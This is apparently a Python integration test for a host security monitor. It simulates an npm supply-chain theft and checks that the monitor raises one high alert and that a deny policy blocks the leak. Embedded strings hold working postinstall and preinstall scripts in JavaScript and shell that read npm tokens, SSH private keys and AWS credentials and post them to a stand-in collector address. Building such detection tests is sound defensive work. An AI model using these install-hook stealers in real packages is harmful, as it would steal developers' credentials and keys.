#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A supply-chain theft, for real: npm installs a package from a registry, and the install script of the package reads
the user's tokens and keys and posts them. It raises one alert, which names all of them. The honest package raises none,
though npm used the token and the honest script the network. With Action=deny of these classes nothing leaves, and npm
goes on."""

import json
import os
import re
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../benign"))

import harness
import scene as stage
import tap
from net import HOST_V4, ip
from registry import TOKEN, Registry
from scene import USERS
from tap import require, require_equal

# TEST-NET-3, RFC 5737.
COLLECTOR = "203.0.113.66"
NPM_TIMEOUT = 120

SECRETS = {".npmrc": "npm-registries", ".ssh/id_ed25519": "ssh-private-keys", ".aws/credentials": "cloud-aws"}

# Five attempts, as such scripts make when they get no answer.
STEAL = """
const fs = require("fs"), net = require("net"), home = process.env.HOME;
const loot = %s.map(name => fs.readFileSync(home + "/" + name)).join("\\n");
let tries = 5;
(function post() {
    const to = net.connect(443, "%s", () => to.end("POST /collect HTTP/1.0\\r\\n\\r\\n" + loot));
    to.on("close", () => { if (--tries) post(); });
})();
"""

# One that hides that it fails.
STEAL_QUIETLY = STEAL.replace("to.on(", "to.on(\"error\", () => {}); to.on(", 1)

# With a process for each file, and another one for the network.
STEAL_BY_SHELL = """
{ cat ~/.npmrc; cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; } >loot
for name in .npmrc .ssh/id_ed25519 .aws/credentials; do while read -r line; do :; done <~/$name; done
exec node -e '
    const loot = require("fs").readFileSync("loot");
    const to = require("net").connect(443, "%s", () => to.end("POST /collect HTTP/1.0\\r\\n\\r\\n" + loot));
'
"""

HONEST = """
const http = require("http"), fs = require("fs");
http.get("http://%s/", r => r.pipe(fs.createWriteStream("built")));
"""


class Play:
    def __init__(self, s, registry):
        self.s, self.registry = s, registry

    def home(self, user):
        return self.s.world.home_of(user)

    def secrets(self, user):
        """Writes the secrets, and returns their texts, by which they are recognised at the sink."""
        texts = {name: self.s.home.secret().decode() for name in SECRETS}
        texts[".npmrc"] = self.registry.npmrc()
        for name, text in texts.items():
            self.s.world.write(user, name, text)
        self.s.world.write(user, "application/package.json", '{"name":"application","version":"1.0.0"}', 0o644)
        return texts

    def install(self, user, package):
        self.s.world.add_npm()
        self.registry.asked.clear()
        result = self.s.run(["npm", "install", "--no-audit", "--no-fund", "--no-update-notifier",
                             "--foreground-scripts", "--prefix", f"{self.home(user)}/application", package],
                            user, timeout=NPM_TIMEOUT, needs="node")
        require_equal(result.returncode, 0, f"npm install {package}\n{result.stdout}{result.stderr}")
        # The registry only answers requests with the token.
        require(f"/{package}" in self.registry.asked, f"npm did not use the token: {self.registry.asked}")

    def honest(self, user):
        self.secrets(user)
        with self.s.silence():
            self.install(user, "honest")
        built = self.s.world.do("cat", f"{self.home(user)}/application/node_modules/honest/built", user=user)
        require_equal(built, "hello\n", "what the honest script fetched")

    def theft(self, user, package):
        texts = self.secrets(user)
        before, arrived = len(self.s.bw.alerts), len(self.s.net.sink.arrived)
        self.install(user, package)
        self.s.bw.prove_delivered(self.s.net, self.s.home)
        # An alert is written again, with the same id, when its repeats are known.
        alerts = list({a["id"]: a for a in self.s.alerts_since(before)}.values())
        details = "\n".join(f"{a['summary']} {a['process']} {a['destination']}" for a in alerts)
        require_equal(len(alerts), 1, f"alerts\n{details}\n")
        self.check(alerts[0], user)

        stolen = b"".join(entry[3] for entry in self.s.net.sink.arrived[arrived:])
        for name, text in texts.items():
            require(text.strip().splitlines()[1].encode() in stolen, f"the theft of ~/{name} did not succeed")
        return alerts[0]

    def denied(self, user):
        texts = self.secrets(user)
        before, arrived = len(self.s.bw.alerts), len(self.s.net.sink.arrived)
        self.install(user, "evilquiet")
        self.s.bw.prove_delivered(self.s.net, self.s.home)
        with tempfile.TemporaryDirectory() as directory:
            # What belongs to no class arrives afterwards, so that nothing of the theft is on its way.
            marker = f"{directory}/marker"
            with open(marker, "w", encoding="ascii") as out:
                out.write(self.s.home.secret().decode())
            result = self.s.net.run([harness.program("technique-out-tcp"), "blocking", marker, HOST_V4, "443"])
            require_equal(result.returncode, 0, f"the marker\n{result.stderr}")
            with open(marker, "rb") as sent:
                self.s.net.sink.wait_arrived(sent.read())
        alerts = list({a["id"]: a for a in self.s.alerts_since(before)}.values())
        require_equal([a["action"] for a in alerts], ["denied"], f"actions {alerts}")
        self.check(alerts[0], user)
        stolen = b"".join(entry[3] for entry in self.s.net.sink.arrived[arrived:])
        for name, text in texts.items():
            require(text.strip().splitlines()[1].encode() not in stolen, f"~/{name} has left")

    def check(self, alert, user):
        details = f"\n{json.dumps(alert)}"
        require_equal(alert["severity"], "high", f"severity{details}")
        require(alert["score"] >= 70, f"score {alert['score']}{details}")
        require_equal((alert["destination"]["address"], alert["destination"]["port"]), (COLLECTOR, 443),
                      f"destination{details}")
        # npm calls itself "npm install …"; its executable is node.
        npm = [a for a in alert["lineage"] if a["exe"].endswith("/node") and a["comm"].startswith("npm")]
        require_equal(len(npm), 1, f"npm in the lineage{details}")
        for name, wanted in SECRETS.items():
            path = f"{self.home(user)}/{name}"
            classes = [f["class"] for f in alert["files"] if f["path"] == harness.as_text(path.encode())]
            require(wanted in str(classes), f"~/{name} is of {classes}{details}")
        reasons = "\n".join(reason["text"] for reason in alert["reasons"])
        for text in ("install scripts", r"^accessed sensitive files of \d+ classes$"):
            require(re.search(text, reasons, re.MULTILINE), f"no reason says \"{text}\": {reasons}")


def collector_add(net):
    ip("-n", net.host, "address", "add", f"{COLLECTOR}/32", "dev", "lo")
    ip("-n", net.thief, "route", "add", f"{COLLECTOR}/32", "via", HOST_V4)


def honest_add(registry):
    registry.add_npm("honest", files={"build.js": HONEST % HOST_V4}, scripts={"postinstall": "node build.js"})


def enforced(t):
    """The same with Action=deny of the classes."""
    with tempfile.TemporaryDirectory() as directory:
        os.chmod(directory, 0o755)
        with open(f"{directory}/90-deny.conf", "w", encoding="ascii") as out:
            out.writelines(f"[Class {name}]\nAction=deny\n" for name in SECRETS.values())
        with stage.scene((harness.DEFAULT_POLICY, directory)) as s, Registry(s.net, HOST_V4) as registry:
            s.bw.refuses = True
            collector_add(s.net)
            honest_add(registry)
            registry.add_npm("evilquiet", files={"steal.js": STEAL_QUIETLY % (json.dumps(list(SECRETS)), COLLECTOR)},
                             scripts={"postinstall": "node steal.js"})
            play = Play(s, registry)
            for user in USERS:
                t.case(f"{user}: Action=deny: an honest package raises no alert", play.honest, user)
                t.case(f"{user}: Action=deny: nothing leaves, and npm goes on", play.denied, user)
            t.case("Action=deny: no loss", stage.no_loss, s.bw)


def main():
    t = tap.Tap()
    with stage.scene() as s, Registry(s.net, HOST_V4) as registry:
        collector_add(s.net)
        honest_add(registry)
        registry.add_npm("evil", files={"steal.js": STEAL % (json.dumps(list(SECRETS)), COLLECTOR)},
                         scripts={"postinstall": "node steal.js"})
        registry.add_npm("evilshell", files={"steal.sh": STEAL_BY_SHELL % COLLECTOR},
                         scripts={"preinstall": "sh steal.sh"})
        play = Play(s, registry)
        for user in USERS:
            t.case(f"{user}: an honest package raises no alert", play.honest, user)
            t.case(f"{user}: a package that steals raises one high alert", play.theft, user, "evil")
            t.case(f"{user}: a package that steals with the shell raises one, too", play.theft, user, "evilshell")
        t.case(f"the token {TOKEN} is used by npm: no loss", stage.no_loss, s.bw)
    enforced(t)
    t.done()


if __name__ == "__main__":
    main()
